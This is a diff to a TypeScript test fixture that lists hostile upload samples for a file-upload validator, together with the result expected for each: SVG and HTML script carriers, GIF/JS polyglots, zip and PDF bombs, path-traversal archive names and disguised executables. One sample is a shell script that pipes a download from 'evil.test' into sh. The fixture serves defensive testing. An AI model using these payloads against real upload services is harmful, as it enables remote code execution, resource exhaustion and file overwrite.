@@ -13,7 +13,7 @@ import {
 } from './hostile-bytes.ts'
 import { aPdfBomb, aPdfWithScript } from './pdf.ts'
 
-/** What becomes of a file: it is stored as this type, or refused with a status and a sentence. */
+/** The expected result: stored as this type, or refused with a status and a message. */
 export type Fate = { storedAs: string } | { status: number; says: RegExp }
 export type HostileFile = { what: string; filename: string; bytes: Bytes; fate: Fate }
 
@@ -47,78 +47,78 @@ function filesOf(rows: Row[]): HostileFile[] {
 }
 
 const markup = filesOf([
-  ['a drawing with a script', 'logo.svg', svg, notOurs],
-  ['a drawing with a script that is called PNG', 'logo.png', svg, notOurs],
-  ['a drawing behind an XML declaration', 'a.jpg', `<?xml version="1.0"?>${svg}`, notOurs],
-  ['a drawing behind a DOCTYPE with entities', 'a.webp', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg}`, notOurs],
-  ['a packed drawing', 'a.svgz', gzipBomb, notOurs],
-  ['a page', 'page.html', html, notOurs],
-  ['a page that is called PNG', 'page.png', html, notOurs],
-  ['a page that is called MP3', 'talk.mp3', html, notOurs],
-  ['a page behind a mark of UTF-16', 'a.png', joined([0xff, 0xfe], Buffer.from(html, 'utf16le')), notOurs],
+  ['an SVG with a script', 'logo.svg', svg, notOurs],
+  ['an SVG with a script, named PNG', 'logo.png', svg, notOurs],
+  ['an SVG after an XML declaration', 'a.jpg', `<?xml version="1.0"?>${svg}`, notOurs],
+  ['an SVG after a DOCTYPE with entities', 'a.webp', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg}`, notOurs],
+  ['a compressed SVG', 'a.svgz', gzipBomb, notOurs],
+  ['an HTML page', 'page.html', html, notOurs],
+  ['an HTML page named PNG', 'page.png', html, notOurs],
+  ['an HTML page named MP3', 'talk.mp3', html, notOurs],
+  ['an HTML page after a UTF-16 byte order mark', 'a.png', joined([0xff, 0xfe], Buffer.from(html, 'utf16le')), notOurs],
   [
-    'a page of XHTML',
+    'an XHTML page',
     'a.xhtml',
     `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`,
     notOurs,
   ],
-  ['a page with two extensions', 'a.html.png', html, notOurs],
-  ['a page with an extension behind a NUL', 'a.html\u0000.png', html, notOurs],
+  ['an HTML page with two extensions', 'a.html.png', html, notOurs],
+  ['an HTML page with an extension after a NUL', 'a.html\u0000.png', html, notOurs],
   ['a script', 'a.js', 'alert(1)', notOurs],
-  ['a saved page', 'a.mhtml', 'MIME-Version: 1.0\r\nContent-Type: multipart/related', notOurs],
+  ['an MHTML page', 'a.mhtml', 'MIME-Version: 1.0\r\nContent-Type: multipart/related', notOurs],
   ['a style sheet', 'a.css', '@import url(javascript:alert(1))', notOurs],
   ['XML with a stylesheet', 'a.png', '<?xml-stylesheet href="javascript:alert(1)"?><a/>', notOurs],
-  ['a manifest of a cache', 'a.png', 'CACHE MANIFEST\n/', notOurs],
+  ['a cache manifest', 'a.png', 'CACHE MANIFEST\n/', notOurs],
 ])
 
 const polyglots = filesOf([
   ['a GIF that is a script', 'a.gif', 'GIF89a/*\u0000*/=1;alert(1)//', notOurs],
-  ['a GIF that is a script and called PNG', 'a.png', 'GIF89a=1;alert(1)//', notOurs],
+  ['a GIF that is a script, named PNG', 'a.png', 'GIF89a=1;alert(1)//', notOurs],
   ['a BMP that is a script', 'a.jpg', 'BM=1;alert(1)//', notOurs],
-  ['a PNG with a page behind its end', 'a.png', aPng({}, { behind: html }), { storedAs: 'image/png' }],
+  ['a PNG with HTML after its end', 'a.png', aPng({}, { behind: html }), { storedAs: 'image/png' }],
   [
-    'a PNG with a page in a text',
+    'a PNG with HTML in a text chunk',
     'a.png',
     aPng({}, { chunks: [pngChunk('tEXt', `Title\0${html}`)] }),
     {
       storedAs: 'image/png',
     },
   ],
-  ['a PNG called a page', 'a.html', aPng(), notOurs],
-  ['a JPEG with a page in a comment', 'a.jpg', aJpeg({ says: html }), { storedAs: 'image/jpeg' }],
+  ['a PNG named HTML', 'a.html', aPng(), notOurs],
+  ['a JPEG with HTML in a comment', 'a.jpg', aJpeg({ says: html }), { storedAs: 'image/jpeg' }],
   [
-    'a JPEG with a page in its camera’s words',
+    'a JPEG with HTML in its Exif data',
     'a.jpg',
     aJpeg({ marker: 0xe1, says: `Exif\0\0${html}` }),
     {
       storedAs: 'image/jpeg',
     },
   ],
-  ['a JPEG with a page behind its end', 'a.jpeg', aJpeg({ behind: html }), { storedAs: 'image/jpeg' }],
-  ['a JPEG called PNG', 'a.png', aJpeg(), { storedAs: 'image/jpeg' }],
+  ['a JPEG with HTML after its end', 'a.jpeg', aJpeg({ behind: html }), { storedAs: 'image/jpeg' }],
+  ['a JPEG named PNG', 'a.png', aJpeg(), { storedAs: 'image/jpeg' }],
   [
-    'a recording with a page for its title',
+    'a recording with HTML as its title',
     'a.mp3',
     withTag('TIT2', html, recording),
     {
       storedAs: 'audio/mpeg',
     },
   ],
-  ['a recording with a page behind its end', 'a.mp3', joined(recording, html), { storedAs: 'audio/mpeg' }],
-  ['a document with a script and nothing else', 'a.pdf', pdf, noDocument],
+  ['a recording with HTML after its end', 'a.mp3', joined(recording, html), { storedAs: 'audio/mpeg' }],
+  ['a PDF with only a script', 'a.pdf', pdf, noDocument],
   [
-    'a document with a script',
+    'a PDF with a script',
     'a.pdf',
     aPdfWithScript(`app.alert(1)//${html}`),
     { storedAs: 'application/pdf' },
   ],
-  ['a page that is called PDF', 'a.pdf', html, notOurs],
-  ['a page that is called a Word document', 'a.docx', html, notOurs],
-  ['an archive that is called a Word document', 'a.docx', aZip({ name: 'a.class' }), noDocument],
-  ['a Word document that is called PDF', 'a.pdf', aDocx('<w:p/>'), notOurs],
-  ['a document with a script that is called JPEG', 'a.jpg', pdf, notOurs],
+  ['an HTML page named PDF', 'a.pdf', html, notOurs],
+  ['an HTML page named as a Word document', 'a.docx', html, notOurs],
+  ['an archive named as a Word document', 'a.docx', aZip({ name: 'a.class' }), noDocument],
+  ['a Word document named PDF', 'a.pdf', aDocx('<w:p/>'), notOurs],
+  ['a PDF with a script, named JPEG', 'a.jpg', pdf, notOurs],
   [
-    'an archive behind a picture',
+    'an archive after an image',
     'a.png',
     joined(aPng(), aZip({ name: 'a.class' })),
     {
@@ -128,16 +128,16 @@ const polyglots = filesOf([
 ])
 
 const bombs = filesOf([
-  ['an archive of much from little', 'a.zip', aZip({ name: 'a', content: million }), notOurs],
-  ['an archive that is called PNG', 'a.png', aZip({ name: 'a', content: million }), notOurs],
-  ['an archive of paths that climb', 'a.mp3', aZip({ name: '../../../etc/cron.d/x' }), notOurs],
+  ['a zip bomb', 'a.zip', aZip({ name: 'a', content: million }), notOurs],
+  ['a zip bomb named PNG', 'a.png', aZip({ name: 'a', content: million }), notOurs],
+  ['an archive with escaping paths', 'a.mp3', aZip({ name: '../../../etc/cron.d/x' }), notOurs],
   ['an archive that declares four gigabytes', 'a.wav', aZip({ name: 'a', declares: 0xffff_ffff }), notOurs],
-  ['a packed file in a packed file', 'a.gz', gzipBomb, notOurs],
-  ['a packed file that is called MP3', 'a.mp3', gzipBomb, notOurs],
-  ['a Word document of much from little', 'a.docx', aDocx(Buffer.alloc(60_000_000, 'a')), unfolds],
-  ['a PDF of much from little', 'a.pdf', aPdfBomb(1500), unfolds],
+  ['a nested gzip bomb', 'a.gz', gzipBomb, notOurs],
+  ['a gzip bomb named MP3', 'a.mp3', gzipBomb, notOurs],
+  ['a Word document bomb', 'a.docx', aDocx(Buffer.alloc(60_000_000, 'a')), unfolds],
+  ['a PDF bomb', 'a.pdf', aPdfBomb(1500), unfolds],
   [
-    'a Word document that is called text',
+    'a Word document bomb named as text',
     'a.txt',
     aDocx(million),
     {
@@ -157,27 +157,27 @@ const bombs = filesOf([
   ['a PNG without a size', 'a.png', aPng({ width: 0, height: 0 }), broken],
   ['a PNG whose chunk declares four gigabytes', 'a.png', aPng().fill(0xff, 8, 12), notOurs],
   ['a PNG whose later chunk declares four gigabytes', 'a.png', tooLongChunk, broken],
-  ['a drive image', 'a.iso', joined(new Uint8Array(32_769), 'CD001'), notOurs],
+  ['a disk image', 'a.iso', joined(new Uint8Array(32_769), 'CD001'), notOurs],
 ])
 
 const programs = filesOf([
-  ['a program for Windows', 'setup.exe', joined('MZ', new Uint8Array(300)), notOurs],
-  ['a program for Windows that is called WAV', 'a.wav', joined('MZ', new Uint8Array(300)), notOurs],
-  ['a program for Linux', 'a', joined([0x7f], 'ELF', [2, 1, 1], new Uint8Array(300)), notOurs],
-  ['a program for Macs', 'a.mp3', joined([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(300)), notOurs],
-  ['a program for a shell', 'a.sh', '#!/bin/sh\ncurl evil.test | sh', notOurs],
-  ['a program of Java', 'a.png', joined([0xca, 0xfe, 0xba, 0xbe], new Uint8Array(300)), notOurs],
-  ['a program for browsers', 'a.wasm', joined([0], 'asm', [1, 0, 0, 0]), notOurs],
-  ['a film of Flash', 'a.mp3', 'FWS\u0009', notOurs],
+  ['a Windows program', 'setup.exe', joined('MZ', new Uint8Array(300)), notOurs],
+  ['a Windows program named WAV', 'a.wav', joined('MZ', new Uint8Array(300)), notOurs],
+  ['a Linux program', 'a', joined([0x7f], 'ELF', [2, 1, 1], new Uint8Array(300)), notOurs],
+  ['a macOS program', 'a.mp3', joined([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(300)), notOurs],
+  ['a shell script', 'a.sh', '#!/bin/sh\ncurl evil.test | sh', notOurs],
+  ['a Java class', 'a.png', joined([0xca, 0xfe, 0xba, 0xbe], new Uint8Array(300)), notOurs],
+  ['WebAssembly', 'a.wasm', joined([0], 'asm', [1, 0, 0, 0]), notOurs],
+  ['a Flash movie', 'a.mp3', 'FWS\u0009', notOurs],
   ['a shortcut', 'a.url', '[InternetShortcut]\nURL=file:///c:/windows/system32/calc.exe', notOurs],
 ])
 
 const recordings = filesOf([
-  ['a playlist of files inside', 'a.m3u8', playlist, notOurs],
-  ['a playlist that is called MP3', 'a.mp3', playlist, notOurs],
-  ['a playlist that is called M4A', 'a.m4a', playlist, notOurs],
+  ['a playlist of local files', 'a.m3u8', playlist, notOurs],
+  ['a playlist named MP3', 'a.mp3', playlist, notOurs],
+  ['a playlist named M4A', 'a.m4a', playlist, notOurs],
   ['a playlist in a WAVE file', 'a.wav', joined(wave, playlist), unplayable],
-  ['a description of a stream', 'a.mp4', '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>', notOurs],
+  ['a stream manifest', 'a.mp4', '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>', notOurs],
   [
     'a film',
     'a.mp4',
@@ -186,9 +186,9 @@ const recordings = filesOf([
       storedAs: 'video/mp4',
     },
   ],
-  ['a head of a recording without the rest', 'a.mp3', new Uint8Array(recording.subarray(0, 40)), unplayable],
+  ['only the header of a recording', 'a.mp3', new Uint8Array(recording.subarray(0, 40)), unplayable],
   [
-    'a recording that ends in the middle',
+    'a truncated recording',
     'a.mp3',
     new Uint8Array(recording.subarray(0, 30_000)),
     {
@@ -196,7 +196,7 @@ const recordings = filesOf([
     },
   ],
   ['a tag that declares 256 megabytes', 'a.mp3', joined('ID3', [4, 0, 0, 127, 127, 127, 127]), unplayable],
-  ['a recording that is called Ogg', 'a.ogg', new Uint8Array(recording), { storedAs: 'audio/mpeg' }],
+  ['a recording named Ogg', 'a.ogg', new Uint8Array(recording), { storedAs: 'audio/mpeg' }],
   ['noise', 'a.mp3', new Uint8Array(9000).map((_, at) => (at * 7919) % 251), notOurs],
   ['zeros', 'a.png', new Uint8Array(70_000), notOurs],
 ])
@@ -219,7 +219,7 @@ const names = [
 const named = filesOf(
   names.map(
     (name): Row => [
-      `a picture called ${JSON.stringify(name).slice(0, 40)}`,
+      `an image named ${JSON.stringify(name).slice(0, 40)}`,
       name,
       aPng(),
       { storedAs: 'image/png' },
@@ -227,12 +227,12 @@ const named = filesOf(
   ),
 )
 
-/** Files that have run, filled or confused something somewhere, each with what becomes of it here. */
+/** Files that have executed, exhausted or confused software elsewhere, with their expected result here. */
 export const hostileFiles: Record<string, HostileFile[]> = {
   markup,
-  'files of two kinds': polyglots,
+  'polyglot files': polyglots,
   bombs,
   programs,
-  'recordings that are none': recordings,
+  'fake recordings': recordings,
   names: named,
 }
